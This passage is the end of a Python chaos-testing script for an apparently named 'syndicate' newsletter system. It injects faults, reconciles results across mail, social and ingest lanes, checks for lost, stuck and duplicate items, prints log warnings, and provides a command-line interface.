        print(f"{fault.at:6.1f}  {fault.kind:<26} {fault.detail}")
    print()
    for lane in ("mail", "social", "ingest"):
        print(f"{lane:<7}", ", ".join(f"{k} {v}" for k, v in result[lane].items()))
    print(f"editions {result['editions']}")
    print(f"server   {result['server']} (armed, never met: {result['unused_smtp_faults']})  networks "
          f"{result['networks']}  crashes {result['crashes'] or 'none'} (a process that exits by itself is "
          "started again, as systemd would; its log says why)")
    verdict = "OK" if ok(result) else "NOT OK"
    print(f"lost {result['lost']}, stuck {result['stuck']}, duplicates {result['duplicates']} (window "
          f"{result['window']}), injected headers {result['injected']}: {verdict}")


def ok(result: dict) -> bool:
    return (not result["lost"] and not result["stuck"] and result["duplicates"] <= result["window"]
            and not result["injected"])


def what_the_logs_say(folder: Path, last: int = 40) -> None:
    """A failed run's story from the processes' own words: their last warnings and errors, each line
    named by its process, in time order (a lane that stopped shows where it stopped)."""
    lines = []
    for log in sorted((folder / "logs").glob("*.log")):
        for line in log.read_text(errors="replace").splitlines():
            if re.search(r"(WARNING|ERROR|CRITICAL)/", line):
                lines.append(f"{log.stem:<9} {line[:220]}")
    print(f"\nthe processes' last {last} warnings and errors ({len(lines)} in all):")
    print("\n".join(sorted(lines, key=lambda line: line[10:34])[-last:]))


def one(store: str, args) -> dict:
    folder = Path(tempfile.mkdtemp(prefix=f"syndicate-chaos-{store}-"))
    run = Run(store, args, folder)
    result = None
    try:
        run.set_up()
        run.chaos()
        settled = run.settle()
        result = run.reconcile()
    finally:
        run.shut_down()
        if result is None or not ok(result):
            what_the_logs_say(folder)
        if args.keep or result is None or not ok(result):
            print(f"logs and data: {folder}")
        else:
            shutil.rmtree(folder, ignore_errors=True)
    table(run, result, settled)
    print(json.dumps(result, ensure_ascii=False))
    return result


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--store", default="postgres,embedded", help="postgres, embedded, or both (comma-separated)")
    parser.add_argument("--short", action="store_true", help="the CI version: >= 30 faults, 100 s, 40 readers")
    parser.add_argument("--faults", type=int, help="faults to inject (default 100; 30 with --short)")
    parser.add_argument("--seconds", type=float, help="how long the faults go on (default 360; 100 with --short)")
    parser.add_argument("--readers", type=int, help="readers of the daily newsletter (default 150; 40 with --short)")
    parser.add_argument("--story-every", type=float, default=6.0, help="seconds between two stories")
    parser.add_argument("--settle", type=float, default=300.0, help="at most this long to settle, seconds")
    parser.add_argument("--seed", type=int, default=None, help="the random plan's seed (default: a new one)")
    parser.add_argument("--keep", action="store_true", help="keep the temp folder with the logs and databases")
    args = parser.parse_args()
    args.faults = args.faults or (30 if args.short else 100)
    args.seconds = args.seconds or (100.0 if args.short else 360.0)
    args.readers = args.readers or (40 if args.short else 150)
    args.seed = args.seed if args.seed is not None else random.randrange(1 << 30)
    print(f"chaos: seed {args.seed}, {args.faults} faults over {args.seconds:.0f} s, {args.readers} readers")
    results = [one(store.strip(), args) for store in args.store.split(",")]
    if len(results) > 1:
        print(json.dumps(dict(runs=results), ensure_ascii=False))


if __name__ == "__main__":
    main()
